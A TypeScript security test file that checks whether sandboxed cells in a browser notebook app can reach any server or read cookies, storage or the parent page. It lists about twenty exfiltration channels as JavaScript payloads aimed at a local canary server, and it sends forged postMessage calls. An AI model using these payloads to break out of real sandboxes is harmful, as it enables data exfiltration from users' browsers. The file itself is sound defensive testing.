import { createServer, type Server } from "node:http";
import { afterAll, beforeAll, expect, it } from "vitest";
import { notebookOf, openPage, type OpenPage } from "../../support/open-page.ts";

let app: OpenPage;
let canary: Server;
let canaryOrigin: string;
const hits: string[] = [];

beforeAll(async () => {
  canary = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/javascript");
    response.end("export default 1;");
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  const address = canary.address();
  canaryOrigin = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
  app = await openPage();
});
afterAll(async () => {
  await app.close();
  canary.closeAllConnections();
  canary.close();
});

/** Ways out, as JavaScript that a cell runs; HOST is another server, APP the one that Cellar itself comes from. */
const attempts: Readonly<Record<string, string>> = {
  fetch: "await fetch(`${HOST}/fetch`)",
  "fetch of the app": "await fetch(`${APP}/api/notebooks`, {mode: 'no-cors', method: 'POST', body: 'x'})",
  import: "await import(/* @vite-ignore */ `${HOST}/import.js`)",
  image: "await new Promise((r) => Object.assign(new Image(), {onload: r, onerror: r, src: `${HOST}/image.png`}))",
  beacon: "navigator.sendBeacon(`${HOST}/beacon`, 'x')",
  websocket: "new WebSocket(`${HOST.replace('http', 'ws')}/socket`)",
  "event source": "new EventSource(`${HOST}/events`)",
  "worker fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${HOST}/worker').catch(() => {})`])))",
  "worker url": "new Worker(`${HOST}/worker.js`)",
  prefetch:
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: `${HOST}/prefetch`}))",
  stylesheet:
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: `${HOST}/style.css`}))",
  "css url": "document.body.style.backgroundImage = `url(${HOST}/background.png)`",
  form: "document.body.append(Object.assign(document.createElement('form'), {id: 'f', action: `${HOST}/form`, method: 'post'})); document.getElementById('f').submit()",
  "nested frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: `${HOST}/frame`}))",
  "nested about:blank":
    "{ const f = document.createElement('iframe'); document.body.append(f); await f.contentWindow?.fetch(`${HOST}/blank`) }",
  popup: "window.open(`${HOST}/popup`)",
  "top navigation": "top.location = `${HOST}/top`",
  "self navigation": "location.href = `${HOST}/self`",
  "self navigation to the app": "location.href = `${APP}/`",
  "meta refresh":
    "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: `0;url=${HOST}/meta`}))",
};

const navigations = /navigation|refresh/;

/** Code that runs as a script of the page would: every name of the window is in reach. */
const unbound = (code: string): string =>
  `await new (Object.getPrototypeOf(async function () {}).constructor)("HOST", "APP", ${JSON.stringify(code)})(${JSON.stringify(canaryOrigin)}, ${JSON.stringify(app.server.origin)})`;

it.each(Object.keys(attempts))("A16 a cell that tries %s reaches no server", async (name) => {
  const before = hits.length;
  const appHits = new Map(app.server.hits);
  const code = unbound(attempts[name] ?? "");
  const frame = await app.open(
    { text: notebookOf(["js", "1"], ["js", `try { ${code} } catch {}\ndisplay("tried");`]) },
    { drawn: false },
  );
  // one that navigates itself away is gone before it could show anything
  if (!navigations.test(name))
    await frame.waitForFunction(() => document.querySelector("#cell-2 .cell-output")?.textContent?.includes("tried"));
  // there is nothing to wait for where nothing happens
  await app.page.waitForTimeout(500);
  expect(hits.slice(before)).toEqual([]);
  const asked = [...app.server.hits]
    .filter(([path, count]) => count !== (appHits.get(path) ?? 0))
    .map(([path]) => path);
  expect(asked.filter((path) => path !== "/frame" && !path.startsWith("/assets/"))).toEqual([]);
});

it.each([
  ["localStorage", "localStorage.length"],
  ["cookies", "document.cookie"],
  ["IndexedDB", "indexedDB.open('x')"],
  ["caches", "await caches.keys()"],
  ["the parent's document", "parent.document.title"],
  ["the parent's address", "parent.location.href"],
  ["service workers", "await navigator.serviceWorker.getRegistrations()"],
])("A16 a cell that reads %s gets a security error", async (_name, expression) => {
  const source = `let result; try { result = ${unbound(`return ${expression}`)}; } catch (error) { result = error.name; }\ndisplay(String(result));`;
  const frame = await app.open({ text: notebookOf(["js", source]) });
  await frame.waitForFunction(() =>
    /SecurityError|TypeError/.test(document.querySelector("#cell-1 .cell-output")?.textContent ?? ""),
  );
});

it("A16 the page takes no forged message for a frame's, and a frame cannot put itself in another's place", async () => {
  const frame = await app.open({
    text: notebookOf([
      "js",
      "window.parent.postMessage({type: 'cellar-frame-ready'}, '*'); window.parent.postMessage({type: 'save'}, '*'); window.parent.postMessage('x'.repeat(5e7), '*'); display(1)",
    ]),
  });
  await frame.waitForFunction(() => document.querySelector("#cell-1 .cell-output")?.textContent?.includes("1"));
  const text = await app.page.evaluate(() => {
    window.postMessage({ type: "cellar-frame-ready" }, "*");
    return Reflect.get(globalThis, "page").current.memory.text as string;
  });
  expect(text).toContain("cellar-frame-ready");
  expect(app.errors).toEqual([]);
});

it("A16 the frame's document does nothing where its sandbox was lost", async () => {
  const page = await app.browser.newPage();
  await page.route("**/frame", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { "content-type": "text/html" } });
  });
  await page.goto(`${app.server.origin}/frame`);
  expect(await page.textContent("body")).toContain("does nothing by itself");
  await page.close();
});
